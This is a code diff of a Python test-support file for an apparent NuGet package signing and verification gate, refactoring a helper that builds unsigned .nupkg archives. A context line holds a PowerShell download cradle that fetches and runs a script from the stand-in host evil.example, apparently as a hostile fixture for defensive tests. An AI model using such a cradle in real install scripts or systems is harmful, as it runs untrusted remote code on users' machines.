@@ -3,13 +3,12 @@ made-up source, a download-and-run install script, a package builder and offline
 
 from __future__ import annotations
 
-import io
-import zipfile
 from pathlib import Path
 
 from nuseal.client.gate import GateSettings
 from nuseal.trust import RevocationMode
 from nuseal.verify import VerificationPolicy
+from support.packages import nupkg, nuspec_xml
 
 SHARED = Path(__file__).resolve().parents[3] / "shared"
 CODESIGN = str(SHARED / "trust" / "codesignctl.pem")
@@ -21,17 +20,8 @@ CRADLE = "iex (New-Object Net.WebClient).DownloadString('http://evil.example/sta
 
 def make_nupkg(package_id: str, version: str = "1.0.0", files: dict[str, str] | None = None) -> bytes:
     """An unsigned .nupkg: a minimal nuspec at the root, then ``files`` (name -> text) in that order."""
-    nuspec = (
-        '<?xml version="1.0" encoding="utf-8"?><package xmlns="http://schemas.microsoft.com/packaging/2013/05/'
-        f'nuspec.xsd"><metadata><id>{package_id}</id><version>{version}</version><authors>t</authors>'
-        "<description>d</description></metadata></package>"
-    )
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
-        z.writestr(f"{package_id}.nuspec", nuspec)
-        for name, text in (files or {}).items():
-            z.writestr(name, text)
-    return buf.getvalue()
+    nuspec = nuspec_xml(package_id, version, authors="t", description="d", compact=True)
+    return nupkg([(f"{package_id}.nuspec", nuspec), *(files or {}).items()])
 
 
 def gate_settings(**changes: object) -> GateSettings:
